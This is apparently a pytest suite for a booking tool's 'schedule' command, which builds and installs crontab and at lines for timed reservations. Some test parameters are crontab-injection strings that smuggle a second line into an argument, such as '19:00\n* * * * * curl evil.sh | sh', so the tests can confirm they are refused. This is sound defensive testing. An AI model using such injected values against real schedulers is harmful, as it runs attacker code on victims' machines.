"""``booker schedule`` (booker.timing.scheduling + booker.cli.schedule); a fake crontab, never the real one."""

from __future__ import annotations

import datetime as dt
import os
import shlex
import stat
import subprocess
import sys
from pathlib import Path
from zoneinfo import ZoneInfo

import orjson
import pytest

from booker.cli import main
from booker.core.exceptions import UsageError
from booker.timing import scheduling as sc
from booker.timing.when import parse_when

NY = ZoneInfo("America/New_York")
UTC = dt.UTC
FUTURE_YEAR = dt.date.today().year + 1
AT = f"{FUTURE_YEAR}-12-01 09:00"
BOOK = ("book", "resy", "--venue-id", "60029", "--party-size", "2")
DINNER = ("--date", f"{FUTURE_YEAR}-12-31", "--times", "19:00")  # completes BOOK
CREDENTIALS = "RESY_API_KEY=k-from-dotenv\nRESY_AUTH_TOKEN=t-from-dotenv\n"

FAKE_CRONTAB = """#!/bin/sh
# A stand-in for crontab(1): keeps the table in $FAKE_CRONTAB_FILE.
case "$1" in
  -l) if [ -f "$FAKE_CRONTAB_FILE" ]; then cat "$FAKE_CRONTAB_FILE"; else echo "no crontab for tester" >&2; exit 1; fi ;;
  -) cat > "$FAKE_CRONTAB_FILE" ;;
  *) echo "fake crontab: unexpected $*" >&2; exit 2 ;;
esac
"""


@pytest.fixture
def fake_crontab(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A fake ``crontab`` first on PATH; returns the file it stores the table in."""
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    script = bin_dir / "crontab"
    script.write_text(FAKE_CRONTAB)
    script.chmod(script.stat().st_mode | stat.S_IXUSR)
    table = tmp_path / "crontab.txt"
    monkeypatch.setenv("PATH", f"{bin_dir}{os.pathsep}{os.environ.get('PATH', '')}")
    monkeypatch.setenv("FAKE_CRONTAB_FILE", str(table))
    monkeypatch.setenv("BOOKER_LOG_DIR", str(tmp_path / "logs"))
    for name in ("RESY_API_KEY", "RESY_AUTH_TOKEN"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.chdir(tmp_path)
    env_file = tmp_path / ".env"
    env_file.write_text(CREDENTIALS)
    env_file.chmod(0o600)
    return table


def run(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str, str]:
    """``booker ARGV`` in-process through main(): exit code, stdout, stderr."""
    with pytest.raises(SystemExit) as exited:
        main(list(argv))
    out, err = capsys.readouterr()
    code = exited.value.code
    return (code if isinstance(code, int) else 0), out, err


def job(**changes: object) -> sc.Job:
    target = dt.datetime(FUTURE_YEAR, 12, 1, 9, 0, tzinfo=NY)
    values: dict[str, object] = {
        "target": target,
        "start": sc.start_time(target, UTC),
        "executable": ("/opt/booker/bin/booker",),
        "command": BOOK,
        "cwd": Path("/home/me/dinner plans"),
        "path_env": "/opt/booker/bin:/usr/bin:/bin",
        "log_file": Path("/home/me/.local/state/booker/logs/scheduled_x.log"),
        "tag": "60029-x",
    }
    values.update(changes)
    return sc.Job(**values)  # type: ignore[arg-type]


# --- pure: parsing and times ----------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "zone", "iso"),
    [
        ("2026-12-01 09:00", NY, "2026-12-01T09:00:00-05:00"),
        ("2026-12-01T09:00:30", NY, "2026-12-01T09:00:30-05:00"),
        ("2026-07-01 09:00", NY, "2026-07-01T09:00:00-04:00"),
        ("2026-12-01T09:00:00+01:00", NY, "2026-12-01T09:00:00+01:00"),
        (" 2026-12-01 09:00 ", ZoneInfo("Asia/Kolkata"), "2026-12-01T09:00:00+05:30"),
    ],
)
def test_schedule_reads_at_with_the_one_parser(text: str, zone: ZoneInfo, iso: str) -> None:
    """A wall time in the zone (DST included), or an explicit offset that wins; no 24 h limit."""
    now = dt.datetime(2026, 1, 1, tzinfo=UTC)
    assert parse_when(text, zone, now, max_ahead=None).isoformat() == iso


def test_a_skipped_wall_time_is_refused() -> None:
    """02:30 on the spring-forward day does not exist in New York."""
    with pytest.raises(UsageError, match="does not exist"):
        parse_when("2026-03-08 02:30", NY, dt.datetime(2026, 1, 1, tzinfo=UTC), max_ahead=None)


@pytest.mark.parametrize(
    ("target", "start"),
    [
        (dt.datetime(2026, 12, 1, 9, 0, tzinfo=NY), "2026-12-01T13:59:00+00:00"),
        (dt.datetime(2026, 12, 1, 9, 0, 45, tzinfo=NY), "2026-12-01T13:59:00+00:00"),
        (dt.datetime(2027, 1, 1, 0, 0, tzinfo=UTC), "2026-12-31T23:59:00+00:00"),
    ],
)
def test_start_is_the_minute_before_in_the_daemon_zone(target: dt.datetime, start: str) -> None:
    """One whole minute before the target's minute, expressed in cron's zone."""
    assert sc.start_time(target, UTC).isoformat() == start


def test_check_future() -> None:
    """Past targets and targets whose start minute has begun are refused."""
    target = dt.datetime(2026, 12, 1, 9, 0, tzinfo=UTC)
    start = sc.start_time(target, UTC)
    sc.check_future(target, start, target - dt.timedelta(minutes=2))
    with pytest.raises(UsageError, match="in the past"):
        sc.check_future(target, start, target)
    with pytest.raises(UsageError, match="too soon"):
        sc.check_future(target, start, target - dt.timedelta(seconds=30))


def test_command_and_tag_checks() -> None:
    """The command must be a book command without --at; tags are shell- and cron-safe."""
    assert sc.check_command(BOOK) == BOOK
    with pytest.raises(UsageError, match="after --"):
        sc.check_command(())
    with pytest.raises(UsageError, match="after --"):
        sc.check_command(("sim",))
    with pytest.raises(UsageError, match="leave --at out"):
        sc.check_command((*BOOK, "--at=2026-01-01T00:00:00Z"))
    assert sc.check_tag("dinner_1.x-2") == "dinner_1.x-2"
    with pytest.raises(UsageError, match="--tag"):
        sc.check_tag("a b;rm")
    target = dt.datetime(2026, 12, 1, 9, 0, tzinfo=NY)
    assert sc.default_tag(target, BOOK) == "60029-202612010900"
    assert sc.default_tag(target, ("book", "resy", "--venue-id=7")) == "7-202612010900"
    assert sc.default_tag(target, ("book", "resy")) == "run-202612010900"


def test_booker_executable(tmp_path: Path) -> None:
    """The running booker script, else booker on PATH, else python -m booker."""
    script = tmp_path / "booker"
    script.write_text("#!/bin/sh\n")
    assert sc.booker_executable(str(script), lambda _: None, "py") == (str(script.resolve()),)
    assert sc.booker_executable("/x/__main__.py", lambda _: str(script), "py") == (
        str(script.resolve()),
    )
    assert sc.booker_executable("/x/__main__.py", lambda _: None, "/v/bin/python") == (
        "/v/bin/python",
        "-m",
        "booker",
    )


# --- pure: lines ----------------------------------------------------------------------------


def test_cron_environment_is_what_cron_passes_then_what_the_line_sets() -> None:
    """``booker check`` and the expiry warning look with cron's own variables only (none of
    this shell's exports); ``booker schedule`` checks the job with the line's PATH and
    booker's directory variables on top."""
    shell = {
        "HOME": "/home/u",
        "LOGNAME": "",
        "USER": "u",
        "SHELL": "/bin/sh",
        "PATH": "/opt/x:/usr/bin",
        "RESY_AUTH_TOKEN": "exported-only",
        "BOOKER_CONFIG_DIR": "/cfg",
    }
    passed = {"HOME": "/home/u", "USER": "u", "SHELL": "/bin/sh"}
    assert sc.cron_environment(shell) == passed
    line = (("PATH", "/usr/bin:/bin"), *sc.carried_variables(shell))
    assert sc.cron_environment(shell, line) == {
        **passed,
        "PATH": "/usr/bin:/bin",
        "BOOKER_CONFIG_DIR": "/cfg",
    }


def test_cron_line_shape() -> None:
    """Fields from the start minute, year guard, cd, PATH, absolute booker, exact --at, log, tag."""
    line = sc.cron_line(job())
    assert line.startswith(f'59 13 1 12 * test "$(date +\\%Y)" = {FUTURE_YEAR} && mkdir -p ')
    assert "&& cd '/home/me/dinner plans' && PATH=/opt/booker/bin:/usr/bin:/bin " in line
    assert (
        f"/opt/booker/bin/booker book resy --venue-id 60029 --party-size 2 "
        f"--at {FUTURE_YEAR}-12-01T09:00:00-05:00 "
        ">> /home/me/.local/state/booker/logs/scheduled_x.log 2>&1 # booker:60029-x"
    ) in line
    assert "\n" not in line
    assert "RESY_" not in line


def test_cron_line_escapes_percent() -> None:
    """cron turns a bare % into a newline: every % is escaped."""
    line = sc.cron_line(job(cwd=Path("/tmp/100%")))
    assert "%" not in line.replace("\\%", "")


def test_at_line_round_trips_through_the_shell() -> None:
    """The echo argument is exactly the command; at -t gets the start minute."""
    the_job = job()
    line = sc.at_line(the_job)
    assert line.endswith(f" | at -t {FUTURE_YEAR}12011359")
    echo_part = line.rsplit(" | at -t ", 1)[0]
    assert shlex.split(echo_part) == ["echo", the_job.shell_command()]


def test_entries_add_and_remove() -> None:
    """Tagged lines are found, replaced by tag, removed by tag; other lines are kept."""
    table = "MAILTO=me\n# booker:commented-out\n0 1 * * * backup\n"
    table = sc.add_entry(table, "1 2 3 4 * a # booker:t1", "t1")
    table = sc.add_entry(table, "1 2 3 4 * b # booker:t2", "t2")
    table = sc.add_entry(table, "5 6 7 8 * c # booker:t1", "t1")
    assert sc.entries(table) == [
        ("t2", "1 2 3 4 * b # booker:t2"),
        ("t1", "5 6 7 8 * c # booker:t1"),
    ]
    kept, removed = sc.remove_entry(table, "t1")
    assert removed == 1
    assert kept == "MAILTO=me\n# booker:commented-out\n0 1 * * * backup\n1 2 3 4 * b # booker:t2\n"
    assert sc.remove_entry(kept, "nope") == (kept, 0)


# --- command line ---------------------------------------------------------------------------


def test_cli_prints_the_line_without_touching_crontab(
    fake_crontab: Path, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    """Without --install only the line is printed."""
    code, out, err = run(
        capsys, "schedule", "--at", AT, "--tz", "America/New_York", "--", *BOOK, *DINNER
    )
    assert code == 0
    assert err.startswith("booker: note: without --notify or --notify-cmd nobody will be told")
    line = out.strip()
    assert f" BOOKER_SCHEDULED=60029-{FUTURE_YEAR}12010900 " in line
    assert f"--at {FUTURE_YEAR}-12-01T09:00:00-05:00 " in line
    assert f"cd {tmp_path} " in line
    assert f"{tmp_path / 'logs'}/scheduled_60029-{FUTURE_YEAR}12010900.log" in line
    assert line.endswith(f"# booker:60029-{FUTURE_YEAR}12010900")
    start = dt.datetime(FUTURE_YEAR, 12, 1, 9, 0, tzinfo=NY).astimezone() - dt.timedelta(minutes=1)
    assert line.startswith(f"{start.minute} {start.hour} {start.day} {start.month} * ")
    assert not fake_crontab.exists()


def test_cli_install_list_remove(fake_crontab: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """--install appends (replacing the same tag), --list shows, --remove deletes; others stay."""
    fake_crontab.write_text("0 1 * * * backup\n")
    args = ("schedule", "--at", AT, "--tz", "UTC", "--tag", "dinner")
    code, out, _ = run(capsys, *args, "--install", "--", *BOOK, *DINNER)
    assert code == 0
    assert out.startswith("installed in your crontab")
    run(
        capsys,
        *args,
        "--install",
        "--",
        *BOOK,
        "--date",
        f"{FUTURE_YEAR}-12-31",
        "--times",
        "19:00",
    )
    table = fake_crontab.read_text().splitlines()
    assert table[0] == "0 1 * * * backup"
    assert len(table) == 2
    assert f"--times 19:00 --at {FUTURE_YEAR}-12-01T09:00:00+00:00 >> " in table[1]
    code, out, _ = run(capsys, "schedule", "--list")
    assert (code, out.split("\t")[0]) == (0, "dinner")
    code, out, _ = run(capsys, "schedule", "--remove", "dinner")
    assert (code, out.strip()) == (0, "removed 1 line tagged booker:dinner")
    assert fake_crontab.read_text() == "0 1 * * * backup\n"
    code, _, err = run(capsys, "schedule", "--remove", "dinner")
    assert code == 2
    assert err == "booker: error: no crontab line tagged booker:dinner\n"


def test_cli_list_with_no_crontab(fake_crontab: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """'no crontab for user' is an empty table, not an error; it says nothing is scheduled."""
    assert run(capsys, "schedule", "--list") == (
        0,
        "nothing scheduled: no booker line in your crontab\n",
        "",
    )
    assert run(capsys, "schedule", "--list", "--json") == (0, "[]\n", "")


def test_cli_list_json(fake_crontab: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """--list --json: tag and line of each booker entry, other lines left out."""
    fake_crontab.write_text("0 1 * * * backup\n1 2 3 4 * booker book # booker:dinner\n")
    code, out, _ = run(capsys, "schedule", "--list", "--json")
    assert code == 0
    assert orjson.loads(out) == [{"tag": "dinner", "line": "1 2 3 4 * booker book # booker:dinner"}]
    code, _, err = run(capsys, "schedule", "--remove", "dinner", "--json")
    assert code == 2 and "--json applies to --list only" in err


def test_cli_at_job(fake_crontab: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """--at-job prints the at variant one minute early and leaves crontab alone."""
    code, out, _ = run(
        capsys, "schedule", "--at", AT, "--tz", "UTC", "--at-job", "--", *BOOK, *DINNER
    )
    start = dt.datetime(FUTURE_YEAR, 12, 1, 8, 59, tzinfo=UTC).astimezone()
    assert code == 0
    assert out.startswith("echo ")
    assert out.strip().endswith(f"| at -t {start:%Y%m%d%H%M}")
    assert not fake_crontab.exists()


@pytest.mark.parametrize(
    ("argv", "message"),
    [
        (("--at", "2020-01-01 09:00", "--tz", "UTC", "--", *BOOK, *DINNER), "is in the past"),
        (("--at", "next tuesday", "--tz", "UTC", "--", *BOOK, *DINNER), "--at must be"),
        (("--at", AT, "--tz", "Nowhere/City", "--", *BOOK, *DINNER), "unknown time zone"),
        (("--at", AT), "give the booker command to run after --"),
        (("--", *BOOK, *DINNER), "--at is required"),
        (
            ("--at", AT, "--install", "--at-job", "--", *BOOK, *DINNER),
            "--install writes a crontab line",
        ),
        (("--at", AT, "--tz", "UTC", "--tag", "no spaces", "--", *BOOK, *DINNER), "--tag must be"),
    ],
)
def test_cli_refusals(
    fake_crontab: Path,
    capsys: pytest.CaptureFixture[str],
    argv: tuple[str, ...],
    message: str,
) -> None:
    """Bad input: exit 2, one line on stderr, crontab untouched."""
    code, out, err = run(capsys, "schedule", *argv)
    assert code == 2
    assert out == ""
    assert err.startswith("booker: error: ")
    assert err.count("\n") == 1
    assert message in err
    assert not fake_crontab.exists()


def test_cli_subprocess_past_time_is_one_line(tmp_path: Path) -> None:
    """As a real process: a past --at exits 2 with one line and no traceback."""
    (tmp_path / ".env").write_text(CREDENTIALS)
    (tmp_path / ".env").chmod(0o600)
    argv = ["schedule", "--at", "2001-01-01 00:00", "--tz", "UTC", "--", *BOOK, *DINNER]
    done = subprocess.run(
        [sys.executable, "-m", "booker", *argv],
        capture_output=True,
        text=True,
        timeout=30,
        check=False,
        cwd=tmp_path,
    )
    assert done.returncode == 2
    assert done.stderr.count("\n") == 1
    assert "is in the past" in done.stderr


# --- the command after -- is checked now, as cron will run it --------------------------------


@pytest.mark.parametrize(
    ("inner", "message"),
    [
        ((*BOOK, "--venu-id", "1", *DINNER), "the command after --: No such option '--venu-id'"),
        (
            (*BOOK, "--date", f"{FUTURE_YEAR}-02-30", "--times", "19:00"),
            "--date must be YYYY-MM-DD",
        ),
        ((*BOOK, "--date", f"{FUTURE_YEAR}-12-31", "--times", "25:00"), "--times"),
        ((*BOOK, *DINNER, "--cadence-ms", "5"), "--cadence-ms"),
        (("book", "resy", "--venue-id", "60029", *DINNER), "Missing option '--party-size'"),
        (("book", "boat", *DINNER), "no provider 'boat'"),
        ((*BOOK, *DINNER, "--help"), "not print help"),
    ],
)
def test_the_inner_command_is_parsed_and_checked_at_schedule_time(
    fake_crontab: Path, capsys: pytest.CaptureFixture[str], inner: tuple[str, ...], message: str
) -> None:
    """A typo, an impossible date or a bad time fails now (exit 2), not unseen at the drop."""
    code, out, err = run(capsys, "schedule", "--at", AT, "--tz", "UTC", "--install", "--", *inner)
    assert code == 2, out
    assert (out, err.count("\n")) == ("", 1)
    assert message in err
    assert not fake_crontab.exists()


@pytest.mark.parametrize("bad", ["19:00\n* * * * * curl evil.sh | sh", "19:00\r", "19:00\x1b[2J"])
def test_control_characters_are_refused(
    fake_crontab: Path, capsys: pytest.CaptureFixture[str], bad: str
) -> None:
    """A newline inside an argument would become a second crontab line: refused."""
    inner = (*BOOK, "--date", f"{FUTURE_YEAR}-12-31", "--times", bad)
    code, _, err = run(capsys, "schedule", "--at", AT, "--tz", "UTC", "--install", "--", *inner)
    assert code == 2
    assert "control character" in err
    assert not fake_crontab.exists()


def test_credentials_only_exported_in_this_shell_are_refused(
    fake_crontab: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """cron does not pass this shell's exports: credentials must be where cron's run looks."""
    (Path.cwd() / ".env").unlink()
    monkeypatch.setenv("RESY_API_KEY", "exported-key")
    monkeypatch.setenv("RESY_AUTH_TOKEN", "exported-token")
    code, _, err = run(capsys, "schedule", "--at", AT, "--tz", "UTC", "--", *BOOK, *DINNER)
    assert code == 2
    assert "the scheduled run would fail in" in err and "missing credentials" in err
    assert ".env there" in err and "exported-key" not in err
    # `at` copies the environment into the job: there the exports do count
    code, out, _ = run(
        capsys, "schedule", "--at", AT, "--tz", "UTC", "--at-job", "--", *BOOK, *DINNER
    )
    assert code == 0 and out.startswith("echo ")


def test_a_world_readable_env_file_is_refused_at_schedule_time(
    fake_crontab: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """The run would refuse an .env others can read: so does schedule, with the chmod."""
    (Path.cwd() / ".env").chmod(0o644)
    code, _, err = run(capsys, "schedule", "--at", AT, "--tz", "UTC", "--", *BOOK, *DINNER)
    assert code == 2
    assert "chmod 600" in err


def test_the_line_carries_bookers_directory_variables(
    fake_crontab: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """The scheduled run uses this shell's settings, journal and logs (cron would not know)."""
    monkeypatch.setenv("BOOKER_DATA_DIR", "/srv/booker data")
    code, out, _ = run(capsys, "schedule", "--at", AT, "--tz", "UTC", "--", *BOOK, *DINNER)
    assert code == 0
    assert " BOOKER_DATA_DIR='/srv/booker data' " in out
    assert "RESY_" not in out and "dotenv" not in out


def venue_in(zone: str) -> object:
    """A stand-in for resy_lookups.venue answering with a venue in ``zone``."""
    from booker.providers import resy_venue

    def look_up(config: object, credentials: object, venue_id: int) -> resy_venue.Venue:
        return resy_venue.Venue(venue_id, "Carbone", zone, "", 30)

    return look_up


def test_a_bare_at_is_read_in_the_venues_zone(
    fake_crontab: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """On a UTC machine, `--at "... 10:00"` for a New York venue means 10:00 in New York."""
    from booker.oneshot import resy_lookups

    monkeypatch.setenv("TZ", "UTC")
    monkeypatch.setattr(resy_lookups, "venue", venue_in("America/New_York"))
    code, out, err = run(
        capsys, "schedule", "--at", f"{FUTURE_YEAR}-12-01 10:00", "--", *BOOK, *DINNER
    )
    assert code == 0, err
    assert f"--at {FUTURE_YEAR}-12-01T10:00:00-05:00 " in out


def test_a_bare_at_without_a_zone_to_look_up_is_refused(
    fake_crontab: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A campground's zone cannot be looked up: a bare --at needs --tz."""
    env_file = Path.cwd() / ".env"
    env_file.write_text('RA_AUTHORIZATION=eyJ.x\nRA_A1DATA={"a1": 1}\n')
    cart = ("book", "cart", "--contract-code", "NY", "--facility-id", "140", "--site-id", "9",
            "--arrival-date", f"{FUTURE_YEAR}-05-17", "--nights", "2")  # fmt: skip
    code, _, err = run(capsys, "schedule", "--at", f"{FUTURE_YEAR}-05-01 09:00", "--", *cart)
    assert code == 2
    assert "give --tz" in err
    code, out, _ = run(capsys, "schedule", "--at", f"{FUTURE_YEAR}-05-01 09:00", "--tz",
                       "America/New_York", "--", *cart)  # fmt: skip
    assert code == 0
    assert f"--at {FUTURE_YEAR}-05-01T09:00:00-04:00 " in out


def completions(*args: str, incomplete: str = "") -> list[str]:
    """What shell completion offers after ``booker ARGS``."""
    from click.shell_completion import ShellComplete

    from booker.cli import cli

    complete = ShellComplete(cli, {}, "booker", "_BOOKER_COMPLETE")
    return [item.value for item in complete.get_completions(list(args), incomplete)]


def test_completion_offers_schedule_tags_and_setting_keys(fake_crontab: Path) -> None:
    """`schedule --remove <TAB>` offers the crontab's booker tags; `settings set <TAB>` the keys."""
    fake_crontab.write_text(
        "0 1 * * * backup\n1 2 3 4 * a # booker:dinner-1\n1 2 3 4 * b # booker:lunch\n"
    )
    assert completions("schedule", "--remove") == ["dinner-1", "lunch"]
    assert completions("schedule", "--remove", incomplete="d") == ["dinner-1"]
    assert completions("settings", "set", incomplete="c") == ["cadence_ms", "concurrency"]
    assert "lead_ms" in completions("settings", "reset", "retries")


def test_a_notify_option_silences_the_note_and_a_bad_url_is_refused(
    fake_crontab: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """With --notify the note goes; an apprise URL it cannot use fails now, with exit 2."""
    args = ("schedule", "--at", AT, "--tz", "UTC", "--", *BOOK, *DINNER)
    code, _, err = run(capsys, *args, "--notify", "ntfy://my-topic")
    assert code == 0
    assert "nobody will be told" not in err
    code, _, err = run(capsys, *args, "--notify", "nonsense://x")
    assert code == 2
    assert "--notify: apprise cannot use a URL of scheme 'nonsense'" in err


def test_a_job_file_schedules_as_its_options_do(
    fake_crontab: Path, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    """``schedule --job FILE``: the file's ``at`` and ``tz`` are --at and --tz; the line runs
    the options the file says, the same as ``schedule --at ... -- book resy ...``."""
    job = tmp_path / "dinner.toml"
    job.write_text(
        f'provider = "resy"\nvenue_id = 60029\nparty_size = 2\ndate = "{FUTURE_YEAR}-12-31"\n'
        f'times = ["19:00"]\nat = "{AT}"\ntz = "America/New_York"\n',
        encoding="utf-8",
    )
    code, from_file, _ = run(capsys, "schedule", "--job", str(job))
    assert code == 0
    code, from_options, _ = run(
        capsys, "schedule", "--at", AT, "--tz", "America/New_York", "--", *BOOK, *DINNER
    )
    assert code == 0
    assert from_file.replace("'19:00'", "19:00") == from_options
    code, _, err = run(capsys, "schedule", "--job", str(job), "--", *BOOK, *DINNER)
    assert code == 2 and "give none after --" in err


# --- a refused command names where it came from: --job FILE, or the command after -- ------

JOB = "jobs/dinner.toml"  # relative, as typed: the message repeats it so
JOB_KEYS = (
    f'provider = "resy"\nvenue_id = 60029\nparty_size = 2\ndate = "{FUTURE_YEAR}-12-31"\n'
    'times = "19:00"\n'
)


@pytest.mark.parametrize(
    ("keys", "extra", "message"),
    [
        (f'bogus = 3\nat = "{AT}"\n', (), f"--job {JOB}: No such option '--bogus'."),
        (f'help = true\nat = "{AT}"\n', (), f"--job {JOB} must run a booking, not print help"),
        (
            f'cadence_ms = "5\\n* * * * * sh"\nat = "{AT}"\n',
            (),
            f"--job {JOB} holds a control character ('\\n'); a crontab line cannot carry it",
        ),
        ("at = true\n", ("--at", AT), f'--job {JOB}: at must be a time, e.g. at = "10:00"'),
        ('at = true\ntz = "UTC"\n', ("--at", AT), f'--job {JOB}: at must be a time, e.g. at = "10:00"'),
    ],
    ids=["unknown option", "help", "control character", "at flag", "at flag before tz"],
)  # fmt: skip
def test_a_refused_job_file_is_named_not_the_command_after_dashes(
    fake_crontab: Path,
    capsys: pytest.CaptureFixture[str],
    keys: str,
    extra: tuple[str, ...],
    message: str,
) -> None:
    """``schedule --job FILE`` with no ``--``: its refusals say ``--job FILE`` (an ``at`` in
    the file is its --at, so only an ``at`` that gives no time is refused), exit 2."""
    Path("jobs").mkdir()
    Path(JOB).write_text(JOB_KEYS + keys, encoding="utf-8")
    code, out, err = run(capsys, "schedule", "--job", JOB, "--tz", "UTC", *extra)
    assert (code, out, err) == (2, "", f"booker: error: {message}\n")
    assert not fake_crontab.exists()


@pytest.mark.parametrize(
    ("inner", "message"),
    [
        ((*BOOK, *DINNER, "--bogus", "3"), "the command after --: No such option '--bogus'."),
        ((*BOOK, *DINNER, "--help"), "the command after -- must run a booking, not print help"),
        (
            (*BOOK, *DINNER, "--cadence-ms", "5\n* * * * * sh"),
            "the command after -- holds a control character ('\\n'); a crontab line cannot carry it",
        ),
        ((*BOOK, *DINNER, "--at", AT), "leave --at out of the command after --: schedule adds it"),
        (
            ("sim",),
            "give the booker command to run after --, e.g. -- book resy --venue-id 60029 ...",
        ),
    ],
    ids=["unknown option", "help", "control character", "its own at", "not book"],
)
def test_a_refused_command_after_dashes_keeps_its_words(
    fake_crontab: Path, capsys: pytest.CaptureFixture[str], inner: tuple[str, ...], message: str
) -> None:
    """The same refusals of a command given after ``--``: today's words, exit 2."""
    code, out, err = run(capsys, "schedule", "--at", AT, "--tz", "UTC", "--", *inner)
    assert (code, out, err) == (2, "", f"booker: error: {message}\n")
    assert not fake_crontab.exists()
